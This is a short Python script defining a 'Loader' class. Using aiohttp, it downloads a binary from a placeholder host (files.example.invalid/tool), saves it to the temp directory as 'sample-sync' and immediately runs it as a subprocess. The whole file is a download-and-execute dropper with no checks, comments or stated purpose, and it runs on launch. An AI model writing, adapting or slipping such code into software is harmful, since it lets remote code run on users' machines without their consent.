import asyncio
import os
import tempfile

import aiofiles
import aiohttp


class Loader:
    async def save(self):
        self.place = os.path.join(tempfile.gettempdir(), "sample-sync")
        async with aiohttp.ClientSession() as session, session.get("https://files.example.invalid/tool") as answer:
            async with aiofiles.open(self.place, "wb") as stream:
                async for part in answer.content.iter_chunked(4096):
                    await stream.write(part)

    async def run(self):
        await self.save()
        await asyncio.create_subprocess_exec(self.place)


asyncio.run(Loader().run())
